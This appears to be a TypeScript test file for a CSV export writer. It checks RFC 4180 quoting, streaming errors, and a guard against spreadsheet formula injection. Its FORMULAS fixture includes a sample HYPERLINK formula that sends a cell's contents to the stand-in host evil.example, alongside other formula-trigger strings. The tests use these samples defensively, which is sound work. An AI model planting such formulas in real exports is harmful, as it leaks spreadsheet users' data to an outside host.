import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { suite } from '../support/suite.js';
import * as assert from 'uvu/assert';
import type { CsvRecord } from '../../src/api/csv.js';
import { csvDocument, csvStream, unguardedCell } from '../../src/api/csv.js';

const test = suite('the CSV writer of every export');

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+cmd', '-1+1', '@SUM(A1:A9)', '\tx', '\rx'];

async function streamed(records: readonly CsvRecord[]): Promise<string> {
  let text = '';
  for await (const chunk of csvStream(Readable.from(records))) text += String(chunk);
  return text;
}

test('a header line, CRLF line ends, empty cells for null, numbers as numbers', () => {
  assert.is(csvDocument([['day', 'openTickets', 'teamId'], ['2026-11-02', 3, null]]), 'day,openTickets,teamId\r\n2026-11-02,3,\r\n');
});

test('quotes, commas, line breaks and edge spaces are quoted as RFC 4180 says, and read back as they were', () => {
  const cells = ['Desk "North", floor 2', 'two\nlines', 'carriage\rreturn', 'windows\r\nline', ' padded ', 'plain'];
  const text = csvDocument([cells]);
  assert.is(text, '"Desk ""North"", floor 2","two\nlines","carriage\rreturn","windows\r\nline"," padded ",plain\r\n');
  assert.equal(parse(text), [cells]);
});

test('text a spreadsheet would run as a formula gets a leading single quote, in memory and streamed', async () => {
  const expected = [FORMULAS.map((cell) => `'${cell}`)];
  assert.equal(parse(csvDocument([FORMULAS])), expected);
  assert.equal(parse(await streamed([FORMULAS])), expected);
  assert.is(csvDocument([[-2, 'safe=text']]), '-2,safe=text\r\n', 'a number is no formula, nor is text with = inside');
});

test('a streamed export fails when its source fails, instead of ending as if complete', async () => {
  const failing = csvStream(
    new Readable({
      objectMode: true,
      read() {
        this.destroy(new Error('the read model went away'));
      },
    }),
  );
  let error: unknown;
  try {
    for await (const _chunk of failing) void _chunk;
  } catch (caught) {
    error = caught;
  }
  assert.instance(error, Error);
});

test('the import takes the guard off again, and only the guard', () => {
  assert.equal(FORMULAS.map((cell) => unguardedCell(`'${cell}`)), FORMULAS);
  assert.is(unguardedCell("'quoted on purpose"), "'quoted on purpose");
  assert.is(unguardedCell('plain'), 'plain');
});

test.run();
